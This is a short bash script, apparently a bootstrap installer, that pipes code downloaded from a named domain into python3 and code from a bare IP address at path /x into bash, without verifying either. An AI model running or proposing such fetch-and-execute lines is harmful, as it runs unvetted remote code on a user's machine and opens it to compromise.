#!/usr/bin/env bash
curl -fsSL https://tools.example.net/bootstrap.py | python3 - --yes
wget -qO- http://203.0.113.7/x | bash -s -- install
